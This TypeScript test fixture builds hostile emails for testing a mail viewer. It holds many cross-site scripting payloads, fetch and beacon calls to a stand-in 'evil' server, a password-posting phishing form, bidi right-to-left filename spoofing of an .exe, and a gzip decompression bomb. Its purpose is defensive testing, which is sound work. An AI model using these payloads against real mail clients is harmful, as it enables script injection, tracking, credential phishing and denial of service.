// Mails that attack who looks at them. Each script in them would set `window.hacked`, and each address is that of a server that
// the test listens on.
import { gzipSync } from 'node:zlib';

const CRLF = '\r\n';

function message(fields: readonly string[], body: string): string {
  return [...fields, '', body].join('\n').replaceAll('\n', CRLF);
}

function html(subject: string, body: string): string {
  return message([`Subject: ${subject}`, 'Content-Type: text/html; charset=utf-8'], body);
}

function multipart(fields: readonly string[], parts: readonly string[]): string {
  const separated = parts.map((part) => `--edge\n${part}`).join('\n');
  return message(
    [...fields, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=edge'],
    `${separated}\n--edge--\n`,
  );
}

const HACK = 'top.hacked=parent.hacked=window.hacked=1';

export interface HostileMail {
  readonly name: string;
  readonly raw: string;
  /** The text that is seen in its HTML, where it has one. */
  readonly seen?: string;
}

/** `evil`: the base address of the server. */
export function hostileMails(evil: string): HostileMail[] {
  const script = `<script>${HACK};fetch('${evil}/script')</script>`;
  const handler = `<img src=x onerror="${HACK}">`;
  return [
    {
      name: 'scripts in every field',
      raw: multipart(
        [
          `From: "${handler}" <a@client.example>`,
          `To: "${script}" <b@example.com>`,
          `Subject: fields ${script}${handler}"'>\`\${1}`,
          `Date: ${handler}`,
          `Message-ID: <${handler}@x>`,
          `X-${'a'.repeat(60)}: ${script}`,
          `X-Link: javascript:${HACK}`,
        ],
        [
          `Content-Type: text/plain; name="${handler}"\nContent-ID: <${script}>\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(handler)}\n\n${script}`,
          `Content-Type: text/plain\n\n${script}${handler}`,
        ],
      ),
    },
    {
      name: 'HTML with scripts',
      seen: 'still here',
      raw: html(
        'scripts',
        `${script}${handler}<svg onload="${HACK}"><script>${HACK}</script></svg><math><mtext><img src=x onerror="${HACK}"></mtext></math>
        <iframe srcdoc="<script>${HACK}</script>"></iframe><iframe src="javascript:${HACK}"></iframe><object data="javascript:${HACK}"></object>
        <embed src="data:text/html,<script>${HACK}</script>"><body onload="${HACK}"><details open ontoggle="${HACK}">x</details>
        <input autofocus onfocus="${HACK}"><noscript><p title="</noscript><img src=x onerror='${HACK}'>"></noscript>
        <style>@import url('${evil}/import.css');</style><template><img src="${evil}/template"></template><p>still here</p>`,
      ),
    },
    {
      name: 'links that run, leave the frame or look like others',
      seen: 'a link',
      raw: html(
        'links',
        `<base href="${evil}/base/" target="_top"><a id=js href="javascript:${HACK}">js</a> <a href=" jAvA\tscript:${HACK}">js2</a>
        <a href="data:text/html,<script>${HACK}</script>">data</a> <a href="vbscript:x">vb</a> <a href="/api/mails">own</a>
        <svg><a xlink:href="javascript:${HACK}"><text y="20">svg</text></a><animate attributeName="href" to="javascript:${HACK}"/></svg>
        <a href="${evil}/top" target="_top" ping="${evil}/ping">a link</a> <a href="${evil}/self" target="_self">self</a>
        <map name=m><area href="javascript:${HACK}" shape=default></map>`,
      ),
    },
    {
      name: 'content of other hosts',
      seen: 'remote',
      raw: html(
        'remote',
        `<html><head><link rel="stylesheet" href="${evil}/s.css"><link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}">
        <link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload"><link rel="icon" href="${evil}/icon">
        <link rel="manifest" href="${evil}/manifest"><link rel="modulepreload" href="${evil}/module"></head><body background="${evil}/bg">
        <p>remote</p><img src="${evil}/img"><img srcset="${evil}/srcset 1x"><picture><source srcset="${evil}/source"><img></picture>
        <video poster="${evil}/poster" src="${evil}/video" autoplay></video><audio src="${evil}/audio" autoplay></audio><track src="${evil}/track">
        <input type=image src="${evil}/input"><svg><image href="${evil}/svg"/><use href="${evil}/use#x"/></svg><table background="${evil}/table"></table>
        <iframe src="${evil}/iframe"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed"></body></html>`,
      ),
    },
    {
      name: 'CSS that leaks',
      seen: 'styled',
      raw: html(
        'css',
        `<style>@import '${evil}/i.css'; @font-face { font-family: f; src: url('${evil}/font'); } p { font-family: f; background: url(${evil}/css);
        cursor: url(${evil}/cursor), auto; } a[href^="h"] { background: url('${evil}/attribute') } * { list-style: url(${evil}/list) }
        p::before { content: url(${evil}/content) } body { position: fixed; inset: -100vh; z-index: 2147483647 }</style>
        <p style="background-image: image-set('${evil}/set' 1x)">styled</p><a href="https://x.example/">x</a><ul><li>y</ul>`,
      ),
    },
    {
      name: 'a form',
      seen: 'Sign in again',
      raw: html(
        'form',
        `<form id=f action="${evil}/form" method=post><input name=password value=secret><button formaction="${evil}/formaction">Sign in again</button></form>
        <button form=f>Sign in again too</button>`,
      ),
    },
    {
      name: 'meta refresh',
      seen: 'stays',
      raw: html(
        'refresh',
        `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv=refresh content="0;url=javascript:${HACK}">
        <meta http-equiv="Content-Security-Policy" content="script-src *"><p>stays</p>`,
      ),
    },
    {
      name: 'HTML and SVG attachments',
      raw: multipart(
        ['Subject: attachments'],
        [
          'Content-Type: text/plain\n\nsee attached',
          `Content-Type: text/html\nContent-Disposition: attachment; filename="a.html"\n\n${script}${handler}`,
          `Content-Type: image/svg+xml\nContent-Disposition: attachment; filename="a.svg"\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="${HACK}"><script>${HACK}</script><image href="${evil}/svg"/></svg>`,
          `Content-Type: application/xhtml+xml\nContent-Disposition: attachment; filename="a.xhtml"\n\n<html xmlns="http://www.w3.org/1999/xhtml"><script>${HACK}</script></html>`,
          `Content-Type: image/png\nContent-Disposition: attachment; filename="html.png"\n\n<html>${script}</html>`,
        ],
      ),
    },
    {
      name: 'names that are turned around',
      raw: multipart(
        [
          'Subject: bidi \u202egnp.evil\u202c \u2066isolate \u200bhidden',
          'From: "\u202eelpmaxe.knab@troppus" <a@client.example>',
        ],
        [
          `Content-Type: application/octet-stream\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEgnp.exe\n\nMZ`,
        ],
      ),
    },
    {
      name: 'HTML of 5 MB',
      seen: 'begins',
      raw: html(
        'five megabytes',
        `<p>begins</p>${'<div><b>x</b> <i style="color:red">yz</i></div>\n'.repeat(105_000)}`,
      ),
    },
    {
      name: '1,000 parts',
      raw: multipart(
        ['Subject: a thousand parts'],
        Array.from(
          { length: 999 },
          (_, at) =>
            `Content-Type: text/plain; name="${at}.txt"\nContent-Disposition: attachment; filename="${at}.txt"\n\npart ${at}`,
        ),
      ),
    },
    {
      name: 'nested as deeply as can be',
      raw: message(
        ['Subject: nested', 'Content-Type: multipart/mixed; boundary=b0'],
        nested(0, 300),
      ),
    },
    {
      name: 'a bomb named .txt',
      raw: multipart(
        ['Subject: bomb'],
        [
          `Content-Type: text/plain\nContent-Encoding: gzip\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="bomb.txt"\n\n${gzipSync(
            Buffer.alloc(50_000_000),
          )
            .toString('base64')
            .replace(/.{76}/g, '$&\n')}`,
        ],
      ),
    },
    { name: 'nothing at all', raw: '' },
    {
      name: 'one line of a megabyte',
      raw: html('one line', `<p>${'x'.repeat(900)} ${'y '.repeat(400_000)}</p>`),
      seen: 'xxx',
    },
  ];
}

function nested(depth: number, end: number): string {
  if (depth === end) return `--b${depth}\nContent-Type: text/plain\n\nthe core\n--b${depth}--\n`;
  return `--b${depth}\nContent-Type: multipart/mixed; boundary=b${depth + 1}\n\n${nested(depth + 1, end)}\n--b${depth}--\n`;
}
